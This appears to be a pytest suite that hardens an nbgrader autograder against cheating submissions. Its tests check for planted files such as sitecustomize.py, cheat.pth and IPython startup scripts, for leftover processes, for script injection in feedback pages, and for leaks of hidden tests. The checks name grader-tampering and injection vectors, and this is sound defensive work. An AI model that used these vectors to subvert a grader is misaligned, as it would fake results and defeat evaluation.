            for mark, path in {"@COURSE@": course.root, "@PRIVATE@": course.private, "@ROOT@": ROOT}.items():
                text = text.replace(mark, str(path))
        course.put(student, text, name)

    for name, (content, _) in CHEATS.items():
        put(f"cheat-{name}", content)
        for other, beside in BESIDE.get(name, {}).items():
            put(f"cheat-{name}", beside, other)
    for name, (content, _) in DAMAGE.items():
        put(f"damage-{name}", content)
    (course.folder("damage-a_directory") / f"{NAME}.ipynb").mkdir()
    (course.folder("damage-a_link") / f"{NAME}.ipynb").symlink_to(f"../../shown-right/{NAME}/{NAME}.ipynb")
    put("damage-module_as_well", right())
    put("damage-module_as_well", RIGHT["model"], f"{NAME}.py")
    put("shown-blank", RELEASED)
    put("shown-markup", markup())
    put("shown-right", right(tuple(RIGHT)))
    put("shown-warns", cell_at(1, code(WARNS.strip())))
    put("shown-wrong", right(loss_fn=WRONG))


def contents(*folders):
    """Return the hash of each file in the folders, and where links lead."""
    found = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_symlink():
                found[path] = os.readlink(path)
            elif path.is_file() and "__pycache__" not in path.parts:
                found[path] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def untouched(course):
    """Return what no student may change: all but the gradebook and the autograded notebooks."""
    folders = [course.root / name for name in ("submitted", "source", "release")]
    config = course.root / "nbgrader_config.py"
    return {
        **contents(*folders, course.private),
        config: config.read_text("utf-8"),
        "entries": sorted(os.listdir(course.root)),
    }


class Batch:
    """What became of all submissions: the one run, the gradebook, and what lay there before."""

    def __init__(self, course):
        self.course = course
        course.limit(call_seconds=2, exercise_seconds=3, load_seconds=5)
        course.init()
        (course.root / "autograded").mkdir()
        hand_in(course)
        self.before = untouched(course)
        self.run = course.autograde()
        self.grades = course.grades()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    return Batch(NbgraderCourse(tmp_path_factory.mktemp("batch")))


@pytest.fixture(scope="module")
def pages(batch):
    done = batch.course.feedback("--student", "shown-*")
    assert done.returncode == 0, done.stderr
    return batch.course


def strings(value):
    """Yield every text in JSON values."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif isinstance(value, str):
        yield value


def shown(notebook):
    return "\n".join(strings(notebook))


# --- what became of each --------------------------------------------------------------------------


def test_batch_of_damage_is_large_enough():
    assert len(DAMAGE) >= 40


def test_batch_ends_well(batch):
    assert batch.run.returncode == 0, batch.run.stderr[-3000:]
    assert "Traceback" not in batch.run.stderr
    assert sorted(batch.grades) == sorted(EXPECTED)


@pytest.mark.parametrize("student", EXPECTED)
def test_submission_has_the_points_of_what_is_solved(batch, student):
    assert batch.grades[student] == EXPECTED[student]


@pytest.mark.parametrize("student", [student for student in EXPECTED if EXPECTED[student] == worth(None)])
def test_ungraded_submission_is_said_with_its_reason(batch, student):
    reason = re.search(rf"{student} is not graded \(unreadable\): (.+)", batch.run.stderr)

    assert reason is not None
    assert len(reason[1]) > 10
    assert "Not graded, since it can't be read." in shown(batch.course.autograded(student))


@pytest.mark.parametrize("student", EXPECTED)
def test_autograded_notebook_has_each_graded_cell_once(batch, student):
    book = batch.course.autograded(student)

    known = [cell["metadata"].get("nbgrader") for cell in book["cells"]]
    graded = {cell["grade_id"]: cell["points"] for cell in known if cell and cell["grade"]}
    names = [cell["grade_id"] for cell in known if cell]
    assert graded == POINTS
    assert sorted(names) == sorted(set(names))
    assert all(set(cell["metadata"]) <= {"nbgrader", "deletable", "editable"} for cell in book["cells"])
    assert all(
        set(cell) <= {"cell_type", "id", "metadata", "source", "outputs", "execution_count"} for cell in book["cells"]
    )


def test_cheats_leave_everybodys_files_as_they_were(batch):
    after = untouched(batch.course)

    assert [path for path in batch.before if batch.before[path] != after.get(path)] == []
    assert sorted(map(str, after)) == sorted(map(str, batch.before))


def test_cheats_leave_nothing_in_the_engine_and_the_environment(batch):
    names = ("nbgrader_config.py", "sitecustomize.py", "torch.py", "00-cheat.py", "cheat.pth")
    folders = [ROOT / "grader", Path(sysconfig.get_path("purelib")), Path.home() / ".ipython/profile_default/startup"]

    left = [folder / name for folder in folders for name in names if (folder / name).exists()]

    assert left == []


def test_gradebook_is_not_changed_after_the_run(batch):
    assert batch.course.grades() == batch.grades  # the first cheats' background writers would write by now
    assert batch.course.rows("PRAGMA integrity_check") == [("ok",)]


def test_no_process_of_a_submission_is_left(batch):
    course = str(batch.course.root).encode()

    left = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes()
        except OSError:
            continue
        if course in words:
            left.append(words)

    assert left == []


def test_grader_grade_gives_the_same_points(batch, tmp_path):
    deeper = shutil.ignore_patterns("old", ".ipynb_checkpoints")  # nbgrader looks at no folder inside
    students = list(EXPECTED)[:: 1 if PROOF else 5]
    for student in students:
        shutil.copytree(batch.course.folder(student), tmp_path / student, symlinks=True, ignore=deeper)

    done = batch.course.command(
        "grader", "grade", tmp_path, "--assignment", NAME, "--course", batch.course.private, "--format", "json"
    )

    assert done.returncode == 0, done.stderr
    reports = {Path(item["submission"]).name: item for item in json.loads(done.stdout)["submissions"]}
    ungraded = dict.fromkeys(POINTS)
    for student in students:
        grades = batch.grades[student]
        points = {item["exercise"]: item["score"] for item in reports[student]["exercises"]} or ungraded
        assert points == {name: score for name, (score, _) in grades.items()}, student


# --- pages ----------------------------------------------------------------------------------------


class Live(html.parser.HTMLParser):
    """What a browser would run or follow in a page, or show in another's place."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in ("script", "style") else ""
        if tag in ("iframe", "object", "embed", "form", "input", "base", "svg", "math", "img", "noscript", "animate"):
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if (
                name.startswith("on")
                or scheme.startswith(("javascript:", "data:", "vbscript:"))
                or "STUDENT" in (value or "")
            ):
                self.found.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside and "STUDENT" in data:
            self.found.append(f"{self.inside}: {data}")


def test_page_of_feedback_runs_nothing_of_a_student(pages):
    page = pages.page("shown-markup")

    assert page.count("STUDENT") > 10
    assert Live(page).found == []


def test_autograded_notebook_holds_no_live_output_of_a_student(batch):
    book = batch.course.autograded("shown-markup")

    outputs = [output for cell in book["cells"] for output in cell.get("outputs", [])]
    live = [
        found
        for output in outputs
        for found in Live("".join(output["data"].get("text/html", ""))).found
        if output["output_type"] == "display_data"
    ]
    assert live == []
    assert {name for output in outputs for name in output["data"]} == {"text/html", "text/plain"}
    assert "STUDENT" not in json.dumps(book["metadata"])
    assert not any(cell["cell_type"] == "raw" for cell in book["cells"])


def test_page_of_a_notebook_runs_nothing_of_a_student(pages, tmp_path):
    path = pages.root / "autograded" / "shown-markup" / NAME / f"{NAME}.ipynb"
    config = pages.root / "nbgrader_config.py"

    done = pages.command(
        "jupyter",
        "nbconvert",
        "--to",
        "html",
        "--template",
        "classic",
        "--config",
        config,
        "--output-dir",
        tmp_path,
        path,
    )

    assert done.returncode == 0, done.stderr
    page = (tmp_path / f"{NAME}.html").read_text("utf-8")
    assert page.count("STUDENT") > 10
    assert Live(page).found == []


def test_page_of_feedback_says_the_points(pages):
    said = {
        student: re.search(r'class="total">(.*?)</p>', pages.page(student), re.DOTALL)[1].split()
        for student in ("shown-right", "shown-wrong")
    }

    assert said["shown-right"] == [f"{NAME}:", "20", "of", "20", "points"]
    assert said["shown-wrong"] == [f"{NAME}:", "4", "of", "20", "points"]


# --- secrecy --------------------------------------------------------------------------------------


def words_of(line):
    return " ".join(line.split())


def readable(path):
    """Return a file's text as a reader finds it: a notebook's sources and outputs, a page without its tags."""
    text = path.read_bytes().decode("utf-8", "replace")
    if path.suffix == ".ipynb":
        text = shown(json.loads(text))
    elif path.suffix == ".html":
        text = html.unescape(re.sub(r"<[^>]*>", "", text))
    return text


def private_lines():
    """Return the lines of the hidden suite and of the reference that are in no file a student is given."""
    released = {
        words_of(line)
        for text in (*files_of(ASSIGNMENT).values(), shown(json.loads(RELEASED)))
        for line in text.splitlines()
    }
    reference = ASSIGNMENT.reference.read_text("utf-8")
    solutions = "\n".join(re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", reference, re.DOTALL))
    lines = {
        words_of(line) for text in (ASSIGNMENT.hidden_suite.read_text("utf-8"), solutions) for line in text.splitlines()
    }
    return {line for line in lines - released if len(line) > 30} - {
        words_of(line) for text in RIGHT.values() for line in text.splitlines()
    }


@pytest.mark.parametrize("place", ["source", "release", "autograded", "feedback", "gradebook.db"])
def test_nothing_private_is_in_the_course(pages, place):
    secrets = private_lines()
    root = pages.root / place

    files = [path for path in root.rglob("*") if path.is_file()] if root.is_dir() else [root]

    assert len(secrets) > 200
    assert files
    for path in files:
        text = readable(path)
        lines = {words_of(line) for line in text.splitlines()}
        assert CANARY not in text, path
        assert secrets & lines == set(), path
        if place == "gradebook.db":
            assert [line for line in secrets if line in words_of(text)] == []
